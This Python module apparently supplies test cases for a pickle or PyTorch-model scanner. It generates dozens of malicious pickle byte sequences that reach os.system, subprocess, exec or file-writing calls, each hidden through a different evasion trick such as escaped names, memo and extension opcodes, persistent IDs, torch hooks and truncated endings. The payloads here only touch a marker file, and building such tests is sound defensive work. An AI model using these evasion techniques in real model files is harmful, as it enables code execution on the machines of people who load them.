"""The same call, written so that a scanner overlooks it: opcodes, spellings, places, state."""

from __future__ import annotations

import struct
from collections.abc import Callable

from attacks.routes import PROTOCOL_4, call, python, system, touch
from fixtures.torch_archive import name, stack_name, text

Program = Callable[[str], bytes]


def short(value: str) -> bytes:
    """A string of protocol 1."""
    return b"U" + bytes([len(value)]) + value.encode()


def wide(value: str) -> bytes:
    """A string with a length of eight bytes."""
    return b"\x8d" + struct.pack("<Q", len(value)) + value.encode()


def framed(part: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(part)) + part


def _extension(module: str, function: str, code: bytes) -> Program:
    """A function that was registered under a number, by the same file."""

    def program(marker: str) -> bytes:
        number = b"J" + code[1:].ljust(4, b"\0")
        add = name("copyreg", "add_extension")
        known = call(add, text(module), text(function), number)
        return known + b"0" + call(code, touch(marker))

    return program


def _namespace_with(attribute: str) -> bytes:
    made = name("argparse", "Namespace") + b")\x81}"
    return made + text(attribute) + name("os", "system") + b"sb"


def _slots(marker: str) -> bytes:
    state = b"N}" + text("__setstate__") + name("os", "system") + b"s\x86"
    return name("argparse", "Namespace") + b")\x81" + state + b"b" + touch(marker) + b"b"


def _state_of_a_class(marker: str) -> bytes:
    state = b"N}" + text("__setstate__") + name("os", "system") + b"s\x86"
    changed = name("fractions", "Fraction") + state + b"b0"
    return changed + name("fractions", "Fraction") + b")\x81" + touch(marker) + b"b"


def _hook(marker: str) -> bytes:
    """Where torch keeps backward hooks; a honest file has an empty OrderedDict there."""
    pid = (
        b"("
        + text("storage")
        + name("torch", "FloatStorage")
        + text("0")
        + text("cpu")
        + b"K\x04tQ"
    )
    shape = b"K\x00K\x04\x85K\x01\x85\x89"
    return name("torch._utils", "_rebuild_tensor_v2") + b"(" + pid + shape + system(marker) + b"tR"


def _iterated(kind: bytes) -> Program:
    def program(marker: str) -> bytes:
        lazy = call(name("builtins", "map"), name("os", "system"), b"(" + touch(marker) + b"l")
        return call(kind, lazy)

    return program


def _confusable(marker: str) -> bytes:
    source = f"ｏｐｅｎ({marker!r}, 'w').ｃｌｏｓｅ()"  # noqa: RUF001  # the point
    return call(name("builtins", "exec"), text(source))


def _memo_by_text(marker: str) -> bytes:
    return name("os", "system") + b"p70001\n0" + call(b"g70001\n", touch(marker))


def _memo_by_memoize(marker: str) -> bytes:
    stored = PROTOCOL_4 + text("os") + b"\x94" + text("system") + b"\x94\x93\x94"
    return stored + b"(" + touch(marker) + b"tR"


PROGRAMS: dict[str, Program] = {
    "extension_of_one_byte": _extension("posix", "system", b"\x82\xee"),
    "extension_of_two_bytes": _extension("subprocess", "getoutput", b"\x83\xee\x01"),
    "extension_of_four_bytes": _extension(
        "subprocess", "getstatusoutput", b"\x84\xee\x01\x01\x00"
    ),
    "names_in_short_strings": lambda m: call(short("os") + short("system") + b"\x93", touch(m)),
    "names_in_wide_strings": lambda m: call(wide("os") + wide("system") + b"\x93", touch(m)),
    "names_escaped_in_strings": lambda m: call(b"S'\\x6fs'\nS'sy\\x73tem'\n\x93", touch(m)),
    "names_escaped_in_unicode": lambda m: call(b"V\\u006fs\nVsy\\u0073tem\n\x93", touch(m)),
    "names_from_the_memo": lambda m: (
        text("os") + b"q\x510" + text("system") + b"q\x520" + call(b"h\x51h\x52\x93", touch(m))
    ),
    "names_in_frames": lambda m: (
        PROTOCOL_4 + framed(text("os")) + framed(text("system") + b"\x93") + framed(b"(" + touch(m) + b"tR")
    ),
    "one_string_is_module_and_name": lambda m: call(
        text("timeit") + b"2\x93", text("pass"), python(m)
    ),
    "names_from_persistent_ids": lambda m: call(b"Pos\nPsystem\n\x93", touch(m)),
    "argument_from_a_persistent_id": lambda m: name("os", "system") + f"Ptouch '{m}'\n".encode() + b"\x85R",
    "argument_from_a_binary_persistent_id": lambda m: (
        name("os", "system") + touch(m) + b"Q\x85R"
    ),
    "commands_of_python_2": lambda m: call(name("commands", "getoutput"), touch(m)),
    "imap_of_python_2": lambda m: call(
        name("collections", "deque"),
        call(name("itertools", "imap"), name("os", "system"), b"(" + touch(m) + b"l"),
    ),
    "state_in_slots": _slots,
    "state_of_a_class": _state_of_a_class,
    "append_calls_an_attribute": lambda m: _namespace_with("append") + touch(m) + b"a",
    "appends_calls_an_attribute": lambda m: _namespace_with("append") + b"(" + touch(m) + b"e",
    "additems_calls_an_attribute": lambda m: _namespace_with("add") + b"(" + touch(m) + b"\x90",
    "iterated_by_an_ordered_dict": _iterated(name("collections", "OrderedDict")),
    "iterated_by_a_set": _iterated(name("builtins", "set")),
    "iterated_by_a_list": _iterated(name("builtins", "list")),
    "iterated_by_a_tuple": _iterated(name("builtins", "tuple")),
    "iterated_by_a_bytearray": _iterated(name("builtins", "bytearray")),
    "thrown_away_by_pop": lambda m: system(m) + b"0N",
    "thrown_away_by_pop_mark": lambda m: b"(" + system(m) + b"1N",
    "in_a_frozenset": lambda m: b"(" + system(m) + b"\x91",
    "in_a_set": lambda m: b"\x8f(" + system(m) + b"\x90",
    "in_a_backward_hook": _hook,
    "source_in_confusable_letters": _confusable,
    "memo_by_text": _memo_by_text,
    "memo_by_memoize": _memo_by_memoize,
    "dotted_method_of_an_inert_array": lambda m: PROTOCOL_4 + call(
        stack_name("numpy", "ndarray.tofile"),
        call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"K\x00\x85", b"C\x01b"),
        text(m),
    ),
    "dotted_method_of_an_inert_path": lambda m: PROTOCOL_4 + call(
        stack_name("pathlib", "PosixPath.write_text"), call(name("pathlib", "PosixPath"), text(m)), text("x")
    ),
    "calls_through_a_copyreg_constructor": lambda m: call(
        name("copyreg", "_reconstructor"),
        *2 * (name("subprocess", "Popen"),), b"(" + text("touch") + text(m) + b"l",
    ),
    "calls_through_numpy_generator": lambda m: call(
        name("numpy.random._pickle", "__generator_ctor"), touch(m), name("os", "system")
    ),
    "calls_through_torch_from_type": lambda m: call(
        name("torch._tensor", "_rebuild_from_type_v2"),
        *(name("os", "system"), name("builtins", "int"), touch(m) + b"\x85", b"}"),
    ),
}  # fmt: skip

# Nothing after the call is a pickle any more; a loader has made the call by then.
ENDINGS: dict[str, Callable[[bytes], bytes]] = {
    "then_no_stop": lambda program: program,
    "then_an_unknown_opcode": lambda program: program + b"\xff\xff.",
    "then_an_empty_stack": lambda program: program + b"0000.",
    "then_a_claim": lambda program: program + b"X\xff\xff\xff\x7f",
    "then_half_a_name": lambda program: program + b"ctorch",
    "then_a_bad_tensor": lambda program: program + call(name("torch._utils", "_rebuild_tensor_v2"), b"N"),
}  # fmt: skip
